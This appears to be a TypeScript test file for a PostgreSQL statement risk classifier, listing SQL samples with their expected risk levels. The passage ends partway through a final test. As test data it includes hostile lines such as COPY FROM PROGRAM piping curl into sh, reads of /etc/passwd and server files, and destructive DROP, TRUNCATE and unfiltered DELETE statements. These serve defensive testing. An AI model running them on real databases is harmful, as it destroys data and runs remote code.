import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { classifySql, initSqlClassifier } from '../../src/main/sql/classifier';
import { reasonCatalog, reasonCode, riskLevels, type RiskLevel } from '../../src/shared/risk';

/** [SQL, risk of the whole text, reasons that must be present (of any statement)]. */
type Case = [sql: string, risk: RiskLevel, reasons?: string[]];

const cases: Record<string, Case[]> = {
  'plain reads': [
    ['SELECT 1', 'read'],
    ['select * from users where id = 42', 'read'],
    ['TABLE users', 'read'],
    ['VALUES (1, 2), (3, 4)', 'read'],
    ['SHOW statement_timeout', 'read'],
    ['SHOW ALL', 'read'],
    ['SELECT count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.id HAVING count(*) > 3', 'read'],
    ['SELECT lower(name), now(), coalesce(a, b) FROM t', 'read'],
    ["SELECT currval('s'), lastval()", 'read'],
    ["SELECT pg_size_pretty(pg_total_relation_size('t'))", 'read'],
    ["SELECT * FROM pg_stat_activity WHERE state = 'active'", 'read'],
    ["SELECT current_setting('work_mem')", 'read'],
    ["WITH recent AS (SELECT * FROM events WHERE at > now() - interval '1 hour') SELECT count(*) FROM recent", 'read'],
    ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT * FROM r', 'read'],
    ['SELECT 1 UNION SELECT 2 EXCEPT SELECT 3', 'read'],
    ['SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE flag)', 'read'],
    ['SELECT EXISTS (SELECT 1 FROM t)', 'read'],
    ['SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t', 'read'],
    ['SELECT * FROM generate_series(1, 10) g', 'read'],
    ['SELECT jsonb_agg(t) FROM t LIMIT 10 OFFSET 5', 'read'],
  ],
  'tricky reads': [
    ["SELECT 'DELETE FROM users' AS text", 'read'],
    ['SELECT "delete", "drop", "truncate" FROM "update"', 'read'],
    ['SELECT 1 -- DROP TABLE users', 'read'],
    ['/* TRUNCATE t; */ SELECT 1', 'read'],
    ['SELECT $$DROP TABLE users; DELETE FROM t$$', 'read'],
    ['SELECT $tag$ ; TRUNCATE x; $tag$ AS body', 'read'],
    ["SELECT E'it\\'s; DROP'", 'read'],
    ['SELECT "pg_terminate_backend" FROM procs', 'read'],
    ['SELECT * FROM "set_config"', 'read'],
    ['SELECT update_count FROM stats', 'read'],
    ['SELECT 1 /* nested /* comment */ still */', 'read'],
    ['select\n  1\n;\n-- trailing\n', 'read'],
    ['SELECT nextval_is_just_a_name FROM t', 'read'],
  ],
  EXPLAIN: [
    ['EXPLAIN SELECT * FROM t', 'read', ['explain_only']],
    ['EXPLAIN DELETE FROM t', 'read', ['explain_only']],
    ['EXPLAIN UPDATE t SET a = 1', 'read'],
    ['EXPLAIN (ANALYZE false) DELETE FROM t', 'read'],
    ['EXPLAIN (ANALYZE off, COSTS) UPDATE t SET a = 1', 'read'],
    ['EXPLAIN (ANALYZE 0) DELETE FROM t', 'read'],
    ['EXPLAIN TRUNCATE t', 'unknown', ['parse_error']],
    ['EXPLAIN (FORMAT JSON) SELECT pg_terminate_backend(1)', 'read'],
    // The planner folds immutable and stable functions: EXPLAIN of a function nobody vetted is a run.
    ['EXPLAIN SELECT my_function(1)', 'unknown', ['unknown_function:my_function', 'explain_only']],
    ['EXPLAIN DELETE FROM t WHERE id = my_function(1)', 'unknown', ['unknown_function:my_function', 'explain_only']],
    ['EXPLAIN SELECT 1 ### 2', 'unknown', ['unknown_operator:###', 'explain_only']],
    // Stable functions that run SQL: the planner calls them while folding and estimating.
    [
      "EXPLAIN SELECT 1 FROM pg_class LIMIT length(table_to_xml('v', false, false, '')::text)",
      'dangerous',
      ['dynamic_sql:table_to_xml', 'explain_only'],
    ],
    ["EXPLAIN SELECT schema_to_xml('public', true, true, '')", 'dangerous', ['dynamic_sql:schema_to_xml']],
    ["EXPLAIN SELECT * FROM t WHERE a = length(query_to_xml('SELECT 1', true, true, '')::text)", 'dangerous'],
    ['SET standard_conforming_strings = off', 'dangerous', ['pinned_setting:standard_conforming_strings']],
    [
      "SELECT set_config('standard_conforming_strings', 'off', false)",
      'dangerous',
      ['side_effect_function:set_config', 'pinned_setting:standard_conforming_strings'],
    ],
    [
      "SELECT set_config('Backslash_Quote'::text, 'on', true)",
      'dangerous',
      ['side_effect_function:set_config', 'pinned_setting:backslash_quote'],
    ],
    // The parser reads UTF-8: another client encoding would move where the server ends a string literal.
    ["SET client_encoding = 'SJIS'", 'dangerous', ['pinned_setting:client_encoding']],
    ["SET client_encoding TO 'BIG5'", 'dangerous', ['pinned_setting:client_encoding']],
    ["SET NAMES 'GBK'", 'dangerous', ['pinned_setting:client_encoding']],
    ['SET NAMES DEFAULT', 'dangerous', ['pinned_setting:client_encoding']],
    ['RESET client_encoding', 'dangerous', ['pinned_setting:client_encoding']],
    ["SET LOCAL client_encoding = 'SJIS'", 'dangerous', ['pinned_setting:client_encoding']],
    ['SET SESSION "CLIENT_ENCODING" = \'SJIS\'', 'dangerous', ['pinned_setting:client_encoding']],
    ["ALTER ROLE ops SET client_encoding = 'SJIS'", 'dangerous', ['pinned_setting:client_encoding']],
    [
      "SELECT set_config('client_encoding', 'SJIS', false)",
      'dangerous',
      ['side_effect_function:set_config', 'pinned_setting:client_encoding'],
    ],
    [
      "SELECT set_config(name, 'SJIS', false) FROM pg_settings WHERE name LIKE 'client%'",
      'dangerous',
      ['pinned_setting:a setting named at run time'],
    ],
    ['SET LOCAL standard_conforming_strings = off', 'dangerous', ['pinned_setting:standard_conforming_strings']],
    ['RESET standard_conforming_strings', 'dangerous', ['pinned_setting:standard_conforming_strings']],
    ["SET backslash_quote = 'on'", 'dangerous', ['pinned_setting:backslash_quote']],
    ['EXPLAIN ANALYZE SELECT * FROM t', 'read', ['explain_analyze']],
    ['EXPLAIN (ANALYZE, BUFFERS) SELECT 1', 'read', ['explain_analyze']],
    ['EXPLAIN ANALYZE DELETE FROM t', 'dangerous', ['explain_analyze', 'no_where']],
    ['EXPLAIN (ANALYZE true) DELETE FROM t', 'dangerous', ['no_where']],
    ['EXPLAIN (ANALYZE on) UPDATE t SET a = 1', 'dangerous', ['no_where']],
    ['EXPLAIN ANALYZE VERBOSE DELETE FROM t WHERE id = 1', 'write', ['delete']],
    [
      'EXPLAIN ANALYZE SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      'dangerous',
      ['side_effect_function:pg_terminate_backend'],
    ],
    ['EXPLAIN ANALYZE INSERT INTO t VALUES (1)', 'write', ['insert']],
    ['EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1', 'ddl', ['create']],
  ],
  // A cast runs the type's input function, a domain's CHECK and any user cast function: offline,
  // only the built-in types are known; every other type waits for the server's catalog.
  'casts to types': [
    ["SELECT 1::int, 'x'::text, 1.5::numeric(10, 2), now()::timestamptz, '{}'::jsonb", 'read'],
    ["SELECT gen_random_uuid()::uuid, 't'::regclass, '{1}'::bigint[], 'a'::varchar(3), 1::double precision", 'read'],
    ["SELECT interval '1 hour', timestamp with time zone '2024-01-01', '1'::\"char\", 'x'::pg_catalog.text", 'read'],
    ["SELECT CAST('1' AS bigint), '10.0.0.1'::inet, 'a'::name, 1::oid, 'x'::bytea, '1'::bit(1)", 'read'],
    ['SELECT * FROM jsonb_to_record(\'{"a":1}\') AS x(a int, b text[])', 'read'],
    ['SELECT 5::posint', 'unknown', ['unknown_type:posint']],
    ["SELECT 'x'::text::pair", 'unknown', ['unknown_type:pair']],
    ["SELECT CAST('happy' AS public.mood)", 'unknown', ['unknown_type:public.mood']],
    ["SELECT mood 'happy'", 'unknown', ['unknown_type:mood']],
    ["SELECT 'a=>1'::pg_catalog.hstore", 'unknown', ['unknown_type:hstore']],
    ['SELECT ARRAY[1, 2]::posint[]', 'unknown', ['unknown_type:posint']],
    ["SELECT * FROM t WHERE status = 'active'::order_status", 'unknown', ['unknown_type:order_status']],
    ['SELECT * FROM jsonb_to_record(\'{"a":5}\') AS x(a posint)', 'unknown', ['unknown_type:posint']],
    ["SELECT * FROM ROWS FROM (jsonb_to_record('{}') AS (a posint))", 'unknown', ['unknown_type:posint']],
    [
      "SELECT * FROM XMLTABLE('/r' PASSING ('<r/>'::xml) COLUMNS a posint PATH 'a')",
      'unknown',
      ['unknown_type:posint'],
    ],
    // The planner folds a cast of a constant: EXPLAIN runs it.
    ['EXPLAIN SELECT 5::posint', 'unknown', ['unknown_type:posint', 'explain_only']],
    // Declaring a column of a type casts nothing.
    ['CREATE TABLE orders2 (status order_status, n posint)', 'ddl', ['create']],
  ],
  writes: [
    ['INSERT INTO t (a) VALUES (1)', 'write', ['insert']],
    ['INSERT INTO t SELECT * FROM u', 'write', ['insert']],
    ['INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b', 'write', ['insert']],
    ['INSERT INTO t VALUES (1) RETURNING *', 'write', ['insert']],
    ['UPDATE t SET a = 1 WHERE id = 7', 'write', ['update']],
    ['UPDATE t SET a = 1 WHERE id = 7 RETURNING a', 'write', ['update']],
    ['UPDATE t SET a = u.a FROM u WHERE u.id = t.id', 'write', ['update']],
    ["DELETE FROM t WHERE created < now() - interval '30 days'", 'write', ['delete']],
    ['DELETE FROM t USING u WHERE u.id = t.id', 'write', ['delete']],
    ['DELETE FROM t WHERE id IN (SELECT id FROM u)', 'write', ['delete']],
    ['DELETE FROM t WHERE CURRENT OF c', 'write', ['delete']],
    [
      'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)',
      'write',
      ['merge'],
    ],
    ["SELECT nextval('orders_id_seq')", 'write', ['sequence_change']],
    ["SELECT setval('orders_id_seq', 100)", 'write', ['sequence_change']],
    ["SELECT pg_catalog.nextval('s')", 'write', ['sequence_change']],
    ['SELECT * FROM t WHERE id = 1 FOR UPDATE', 'write', ['row_lock']],
    ['SELECT * FROM t FOR SHARE SKIP LOCKED', 'write', ['row_lock']],
    ['SELECT * FROM t FOR NO KEY UPDATE NOWAIT', 'write', ['row_lock']],
    ['SELECT * FROM t FOR KEY SHARE', 'write', ['row_lock']],
    ['SELECT * FROM (SELECT * FROM t FOR UPDATE) s', 'write', ['row_lock']],
    ['SELECT pg_advisory_lock(42)', 'write', ['advisory_lock:pg_advisory_lock']],
    ['COPY t FROM STDIN', 'write', ['copy_from']],
    ['COPY t (a, b) FROM STDIN WITH (FORMAT csv)', 'write', ['copy_from']],
    ["NOTIFY jobs, 'go'", 'write', ['notify']],
    ["SELECT pg_notify('jobs', 'go')", 'write', ['notify']],
  ],
  'writes hidden in CTEs': [
    ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', ['cte_write', 'delete']],
    ['WITH u AS (UPDATE t SET a = 1 WHERE b RETURNING *) SELECT count(*) FROM u', 'write', ['cte_write']],
    ['WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT id FROM i', 'write', ['cte_write', 'insert']],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'dangerous', ['no_where', 'cte_write']],
    ['WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u', 'dangerous', ['no_where']],
    ['WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING 1) SELECT * FROM a', 'dangerous', ['no_where']],
    ['SELECT * FROM (WITH d AS (DELETE FROM t WHERE x RETURNING *) SELECT * FROM d) s', 'write', ['cte_write']],
    [
      'WITH moved AS (DELETE FROM q WHERE done RETURNING *) INSERT INTO archive SELECT * FROM moved',
      'write',
      ['insert', 'cte_write'],
    ],
    ["WITH s AS (SELECT nextval('seq') AS n) SELECT n FROM s", 'write', ['sequence_change']],
    ['WITH x AS MATERIALIZED (SELECT * FROM t FOR UPDATE) SELECT * FROM x', 'write', ['row_lock']],
    [
      'WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m',
      'write',
      ['merge', 'cte_write'],
    ],
  ],
  'UPDATE/DELETE without a real WHERE': [
    ['DELETE FROM t', 'dangerous', ['no_where']],
    ['delete from public.users', 'dangerous', ['no_where']],
    ['UPDATE t SET a = 1', 'dangerous', ['no_where']],
    ['UPDATE t SET a = 1 RETURNING *', 'dangerous', ['no_where']],
    ['DELETE FROM t RETURNING id', 'dangerous', ['no_where']],
    ['UPDATE t SET a = u.a FROM u', 'dangerous', ['no_where']],
    ['DELETE FROM t USING u', 'dangerous', ['no_where']],
    ['UPDATE t SET a = 1 WHERE true', 'dangerous', ['where_always_true']],
    ['DELETE FROM t WHERE 1 = 1', 'dangerous', ['where_always_true']],
    ["DELETE FROM t WHERE 't'::boolean", 'dangerous', ['where_always_true']],
    ['DELETE FROM t WHERE id = 1 OR true', 'dangerous', ['where_always_true']],
    ['DELETE FROM t WHERE id = 1 AND true', 'write', ['delete']],
    ['DELETE FROM t WHERE 1 = 2', 'write', ['delete']],
    ['UPDATE "DELETE" SET "where" = 1 WHERE "where" = 2', 'write', ['update']],
  ],
  'side-effecting functions anywhere': [
    ['SELECT pg_terminate_backend(12345)', 'dangerous', ['side_effect_function:pg_terminate_backend']],
    [
      "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'idle'",
      'dangerous',
      ['side_effect_function:pg_cancel_backend'],
    ],
    ['SELECT pg_reload_conf()', 'dangerous', ['side_effect_function:pg_reload_conf']],
    ["SELECT set_config('statement_timeout', '0', false)", 'dangerous', ['side_effect_function:set_config']],
    [
      "SELECT pg_catalog.set_config('transaction_read_only', 'off', true)",
      'dangerous',
      ['side_effect_function:set_config'],
    ],
    ["SELECT lo_import('/etc/passwd')", 'dangerous', ['side_effect_function:lo_import']],
    ["SELECT lo_export(16385, '/tmp/x')", 'dangerous', ['side_effect_function:lo_export']],
    ["SELECT pg_read_file('postgresql.conf')", 'dangerous', ['side_effect_function:pg_read_file']],
    ["SELECT pg_read_binary_file('global/pg_control')", 'dangerous', ['side_effect_function:pg_read_binary_file']],
    ["SELECT pg_ls_dir('.')", 'dangerous', ['side_effect_function:pg_ls_dir']],
    ["SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", 'dangerous', ['side_effect_function:dblink']],
    ["SELECT dblink_exec('host=x', 'DELETE FROM t')", 'dangerous', ['side_effect_function:dblink_exec']],
    [
      'SELECT * FROM (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) s',
      'dangerous',
      ['side_effect_function:pg_terminate_backend'],
    ],
    [
      'SELECT * FROM t WHERE EXISTS (SELECT pg_cancel_backend(1))',
      'dangerous',
      ['side_effect_function:pg_cancel_backend'],
    ],
    [
      'WITH k AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT count(*) FROM k',
      'dangerous',
      ['side_effect_function:pg_terminate_backend'],
    ],
    ['SELECT CASE WHEN x THEN pg_reload_conf() END FROM t', 'dangerous', ['side_effect_function:pg_reload_conf']],
    ['SELECT * FROM pg_terminate_backend(1)', 'dangerous', ['side_effect_function:pg_terminate_backend']],
    ['SELECT PG_TERMINATE_BACKEND(1)', 'dangerous', ['side_effect_function:pg_terminate_backend']],
    ['INSERT INTO audit SELECT pg_switch_wal()', 'dangerous', ['side_effect_function:pg_switch_wal', 'insert']],
    ["SELECT query_to_xml('delete from t', true, true, '')", 'dangerous', ['dynamic_sql:query_to_xml']],
    ['SELECT pg_stat_reset()', 'dangerous', ['side_effect_function:pg_stat_reset']],
    ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", 'dangerous'],
    ["UPDATE t SET a = set_config('x.y', '1', false) WHERE id = 1", 'dangerous', ['side_effect_function:set_config']],
  ],
  DDL: [
    ['CREATE TABLE t (id int primary key)', 'ddl', ['create']],
    ['CREATE TABLE IF NOT EXISTS t2 (LIKE t)', 'ddl'],
    ['CREATE TABLE x AS SELECT * FROM t', 'ddl', ['create']],
    ['CREATE MATERIALIZED VIEW mv AS SELECT 1', 'ddl', ['create']],
    ['SELECT * INTO backup_t FROM t', 'ddl', ['create']],
    ['CREATE VIEW v AS SELECT * FROM t', 'ddl', ['create']],
    ['CREATE INDEX t_a ON t (a)', 'ddl', ['create_index']],
    ['CREATE UNIQUE INDEX t_b ON t (b) WHERE b IS NOT NULL', 'ddl', ['create_index']],
    ['ALTER TABLE t ADD COLUMN c text', 'ddl', ['alter']],
    ['ALTER TABLE t ALTER COLUMN c SET NOT NULL', 'ddl', ['alter']],
    ['ALTER TABLE t RENAME TO t_old', 'ddl', ['alter']],
    ['ALTER TABLE t RENAME COLUMN a TO b', 'ddl'],
    ['CREATE SCHEMA s', 'ddl'],
    ['CREATE SEQUENCE s', 'ddl'],
    ['ALTER SEQUENCE s RESTART WITH 1', 'ddl'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'ddl', ['create']],
    ['CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; RETURN 1; END $$', 'ddl'],
    ["CREATE TYPE mood AS ENUM ('ok', 'sad')", 'ddl'],
    ["ALTER TYPE mood ADD VALUE 'meh'", 'ddl'],
    ['CREATE EXTENSION IF NOT EXISTS pg_stat_statements', 'ddl'],
    ['CREATE ROLE reader LOGIN', 'ddl'],
    ["ALTER ROLE reader SET statement_timeout = '5s'", 'ddl', ['alter']],
    ["COMMENT ON TABLE t IS 'hello'", 'ddl', ['alter']],
    ['CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'ddl'],
    ['CREATE POLICY p ON t USING (owner = current_user)', 'ddl'],
    ['ALTER TABLE t OWNER TO app', 'ddl'],
    ["ALTER DATABASE app SET work_mem = '64MB'", 'ddl', ['alter', 'setting']],
  ],
  'dangerous statements': [
    ['TRUNCATE t', 'dangerous', ['truncate']],
    ['TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', 'dangerous', ['truncate']],
    ['DROP TABLE t', 'dangerous', ['drop']],
    ['DROP TABLE IF EXISTS t CASCADE', 'dangerous', ['drop']],
    ['DROP INDEX CONCURRENTLY t_a', 'dangerous', ['drop']],
    ['DROP SCHEMA s CASCADE', 'dangerous', ['drop']],
    ['DROP DATABASE app', 'dangerous', ['drop']],
    ['DROP ROLE reader', 'dangerous', ['drop']],
    ['DROP FUNCTION f()', 'dangerous', ['drop']],
    ['DROP OWNED BY reader', 'dangerous', ['drop']],
    ['DROP TABLESPACE ts', 'dangerous', ['drop']],
    ['ALTER TABLE t DROP COLUMN c', 'dangerous', ['drop']],
    ['ALTER TABLE t DROP CONSTRAINT t_pkey', 'dangerous', ['drop']],
    ['VACUUM FULL t', 'dangerous', ['vacuum_full']],
    ['VACUUM (FULL, ANALYZE) t', 'dangerous', ['vacuum_full']],
    ['VACUUM (FULL true) t', 'dangerous', ['vacuum_full']],
    ['CLUSTER t USING t_pkey', 'dangerous', ['cluster']],
    ['CLUSTER', 'dangerous', ['cluster']],
    ['REINDEX DATABASE app', 'dangerous', ['reindex_wide']],
    ['REINDEX SCHEMA public', 'dangerous', ['reindex_wide']],
    ['REINDEX SYSTEM app', 'dangerous', ['reindex_wide']],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'dangerous', ['alter_system']],
    ['ALTER SYSTEM RESET ALL', 'dangerous', ['alter_system']],
    ["COPY t TO '/tmp/t.csv'", 'dangerous', ['copy_server_file']],
    ["COPY t FROM '/tmp/t.csv'", 'dangerous', ['copy_server_file', 'copy_from']],
    ["COPY t FROM PROGRAM 'curl http://x | sh'", 'dangerous', ['copy_program']],
    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", 'dangerous', ['copy_program']],
    ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'dangerous', ['lock']],
    ['LOCK t', 'dangerous', ['lock']],
    ['DO $$ BEGIN PERFORM 1; END $$', 'dangerous', ['do_block']],
    ["DO LANGUAGE plpgsql 'BEGIN NULL; END'", 'dangerous', ['do_block']],
    ['CALL refresh_everything()', 'dangerous', ['call']],
    ["CALL s.proc(1, 'a')", 'dangerous', ['call']],
    ["LOAD 'auto_explain'", 'dangerous', ['load_library']],
    [
      'CREATE VIEW killer AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      'dangerous',
      ['side_effect_function:pg_terminate_backend'],
    ],
    ['CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM t', 'dangerous', ['no_where', 'create']],
    ['ALTER DOMAIN d DROP CONSTRAINT c', 'dangerous', ['drop']],
    ['WITH x AS (SELECT 1) UPDATE t SET a = (SELECT * FROM x)', 'dangerous', ['no_where']],
    ['DELETE FROM t WHERE NOT false', 'dangerous', ['where_always_true']],
    ['ALTER FUNCTION f() SET default_transaction_read_only = off', 'dangerous', ['read_only_off']],
    ['RESET SESSION AUTHORIZATION', 'dangerous', ['identity_change']],
    ["SET default_transaction_read_only = 'of'", 'dangerous', ['read_only_off']],
    ['SELECT * FROM ROWS FROM (pg_terminate_backend(1)) x', 'dangerous', ['side_effect_function:pg_terminate_backend']],
  ],
  'read-only and identity switches': [
    ['SET default_transaction_read_only = off', 'dangerous', ['read_only_off']],
    ['SET transaction_read_only = false', 'dangerous', ['read_only_off']],
    ['SET SESSION default_transaction_read_only TO 0', 'dangerous', ['read_only_off']],
    ['SET default_transaction_read_only TO DEFAULT', 'dangerous', ['read_only_off']],
    ['RESET default_transaction_read_only', 'dangerous', ['read_only_off']],
    ['RESET transaction_read_only', 'dangerous', ['read_only_off']],
    ['RESET ALL', 'dangerous', ['read_only_off']],
    ['DISCARD ALL', 'dangerous', ['read_only_off', 'identity_change']],
    ['SET default_transaction_read_only = on', 'admin', ['setting']],
    ['SET transaction_read_only TO true', 'admin', ['setting']],
    ['SET TRANSACTION READ WRITE', 'dangerous', ['read_only_off']],
    ['SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE', 'dangerous', ['read_only_off']],
    ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', 'dangerous', ['read_only_off']],
    ['SET TRANSACTION READ ONLY', 'admin', ['setting']],
    ['SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'admin', ['setting']],
    ['BEGIN READ WRITE', 'dangerous', ['read_only_off']],
    ['START TRANSACTION READ WRITE', 'dangerous', ['read_only_off']],
    ['BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE', 'dangerous', ['read_only_off']],
    ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE, DEFERRABLE', 'dangerous', ['read_only_off']],
    ['BEGIN', 'admin', ['transaction_control']],
    ['BEGIN READ ONLY', 'admin', ['transaction_control']],
    ['START TRANSACTION ISOLATION LEVEL REPEATABLE READ', 'admin', ['transaction_control']],
    ['COMMIT', 'admin', ['transaction_control']],
    ['ROLLBACK', 'admin', ['transaction_control']],
    ['SAVEPOINT a', 'admin'],
    ['SET ROLE admin', 'dangerous', ['identity_change']],
    ['SET LOCAL ROLE admin', 'dangerous', ['identity_change']],
    ['RESET ROLE', 'dangerous', ['identity_change']],
    ['SET ROLE NONE', 'dangerous', ['identity_change']],
    ['SET SESSION AUTHORIZATION postgres', 'dangerous', ['identity_change']],
    ['SET SESSION AUTHORIZATION DEFAULT', 'dangerous', ['identity_change']],
    ['ALTER DATABASE app SET default_transaction_read_only = off', 'dangerous', ['read_only_off', 'alter']],
    ['ALTER ROLE app SET default_transaction_read_only = false', 'dangerous', ['read_only_off']],
    ['SET session_replication_role = replica', 'dangerous', ['unsafe_setting:session_replication_role']],
  ],
  admin: [
    ['VACUUM t', 'admin', ['vacuum']],
    ['VACUUM (VERBOSE, ANALYZE) t', 'admin', ['vacuum']],
    ['VACUUM (FULL false) t', 'admin', ['vacuum']],
    ['VACUUM', 'admin', ['vacuum']],
    ['ANALYZE t', 'admin', ['analyze']],
    ['ANALYZE', 'admin', ['analyze']],
    ['CREATE INDEX CONCURRENTLY t_a ON t (a)', 'admin', ['create_index_concurrently']],
    ['REINDEX INDEX t_a', 'admin', ['reindex']],
    ['REINDEX TABLE CONCURRENTLY t', 'admin', ['reindex']],
    ['REFRESH MATERIALIZED VIEW mv', 'admin', ['refresh_materialized_view']],
    ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', 'admin', ['refresh_materialized_view']],
    ['GRANT SELECT ON t TO reader', 'admin', ['grant']],
    ['REVOKE ALL ON t FROM public', 'admin', ['grant']],
    ['GRANT admin TO alice', 'admin', ['grant']],
    ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO reader', 'admin', ['grant']],
    ['CHECKPOINT', 'admin', ['checkpoint']],
    ["SET statement_timeout = '5s'", 'admin', ['setting']],
    ['SET search_path TO app, public', 'admin', ['setting']],
    ["SET LOCAL work_mem = '256MB'", 'admin', ['setting']],
    ['RESET statement_timeout', 'admin', ['setting']],
    ["SET TIME ZONE 'UTC'", 'admin', ['setting']],
    ['SET CONSTRAINTS ALL DEFERRED', 'admin', ['setting']],
    ['DISCARD PLANS', 'admin', ['session_reset']],
    ['LISTEN jobs', 'admin', ['session_reset']],
    ['DEALLOCATE ALL', 'admin', ['session_reset']],
  ],
  'prepared statements and cursors': [
    ['PREPARE q(int) AS SELECT * FROM t WHERE id = $1', 'admin', ['session_reset', 'prepare']],
    ['PREPARE d AS DELETE FROM t', 'dangerous', ['prepare', 'session_reset', 'no_where']],
    ['EXECUTE q(1)', 'unknown', ['execute_prepared']],
    ['CREATE TABLE x AS EXECUTE q(1)', 'unknown', ['execute_prepared', 'create']],
    ['EXPLAIN ANALYZE EXECUTE q(1)', 'unknown', ['execute_prepared']],
    ['EXPLAIN EXECUTE q(1)', 'read', ['explain_only']],
    ['ALTER DOMAIN d SET NOT NULL', 'ddl', ['alter']],
    ["PREPARE TRANSACTION 'x'", 'admin', ['transaction_control']],
    ['DECLARE c CURSOR FOR SELECT * FROM t', 'read'],
    ['DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', 'admin', ['session_reset']],
    ['DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', 'write', ['row_lock']],
    ['FETCH 10 FROM c', 'read'],
    ['CLOSE c', 'read'],
    ['COPY t TO STDOUT', 'read'],
    ['COPY (SELECT * FROM t WHERE a > 1) TO STDOUT WITH (FORMAT csv, HEADER)', 'read'],
    ["COPY (SELECT nextval('s')) TO STDOUT", 'write', ['sequence_change']],
    ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'dangerous', ['no_where']],
  ],
  'multi-statement texts': [
    ['SELECT 1; SELECT 2', 'read'],
    ['SELECT 1; DELETE FROM t WHERE id = 3', 'write'],
    ['BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;', 'write'],
    ['SELECT 1; DROP TABLE t; SELECT 2', 'dangerous', ['drop']],
    ['SET statement_timeout = 0; SELECT 1', 'admin'],
    ['CREATE TABLE t (a int); INSERT INTO t VALUES (1)', 'ddl'],
    ['SELECT 1;;;SELECT 2;', 'read'],
    ['VACUUM t; ANALYZE t', 'admin'],
  ],
  unparseable: [
    ['SELEC 1', 'unknown', ['parse_error']],
    ['SELECT FROM WHERE', 'unknown', ['parse_error']],
    ['DELETE t', 'unknown', ['parse_error']],
    ["SELECT 'unterminated", 'unknown', ['parse_error']],
    ['SELECT 1; SELEC 2', 'unknown', ['parse_error']],
    ['SELECT (1', 'unknown', ['parse_error']],
    ['DROP TABLE t; SELEC 2', 'dangerous', ['drop', 'parse_error']],
  ],
};

/** Each statement's range is exact: text is the slice, with nothing trimmable around it. */
function assertRangesExact(sql: string, statements: { text: string; start: number; end: number }[]): void {
  for (const s of statements) {
    assert.equal(
      s.text,
      sql.slice(s.start, s.end),
      `text is the slice [${s.start}, ${s.end}) of ${JSON.stringify(sql)}`,
    );
    assert.ok(s.text.length > 0, 'a statement is never empty');
    assert.doesNotMatch(s.text, /^(\s|--|\/\*)/, `no leading whitespace or comment: ${JSON.stringify(s.text)}`);
    assert.doesNotMatch(s.text, /(\s|;)$/, `no trailing whitespace or ';': ${JSON.stringify(s.text)}`);
  }
}

describe('SQL classification', () => {
  before(() => initSqlClassifier());

  test('the table has at least 150 statements and covers every level', () => {
    const all = Object.values(cases).flat();
    assert.ok(all.length >= 150, `only ${all.length} cases`);
    for (const level of riskLevels.filter((l) => l !== 'unknown' || true)) {
      assert.ok(
        all.some(([, risk]) => risk === level),
        `no case at level ${level}`,
      );
    }
  });

  for (const [group, list] of Object.entries(cases)) {
    describe(group, () => {
      for (const [sql, risk, reasons = []] of list) {
        test(`${risk.padEnd(9)} ${sql.replace(/\s+/g, ' ')}`, () => {
          const result = classifySql(sql);
          const found = result.statements.flatMap((s) => s.reasons);
          assert.equal(result.risk, risk, `risk of ${JSON.stringify(sql)} (reasons: ${found.join(', ') || 'none'})`);
          for (const reason of reasons)
            assert.ok(found.includes(reason as never), `missing reason ${reason} in [${found.join(', ')}]`);
          for (const reason of found) assert.ok(reasonCode(reason), `reason ${reason} is listed in src/shared/risk.ts`);
          assertRangesExact(sql, result.statements);
        });
      }
    });
  }
});

describe('SQL statement ranges', () => {
  before(() => initSqlClassifier());

  test('trims whitespace, comments and semicolons around each statement', () => {
    const sql = '  -- first\n SELECT 1 /* after */ ;\n\n/* lead */ DELETE FROM t WHERE id = 1 -- tail\n;  ';
    const { statements } = classifySql(sql);
    assert.deepEqual(
      statements.map((s) => s.text),
      ['SELECT 1', 'DELETE FROM t WHERE id = 1'],
    );
    const second = sql.indexOf('DELETE');
    assert.deepEqual(
      statements.map((s) => [s.start, s.end]),
      [
        [12, 20],
        [second, second + 'DELETE FROM t WHERE id = 1'.length],
      ],
    );
  });

  test('indices are UTF-16 even when the parser counts UTF-8 bytes', () => {
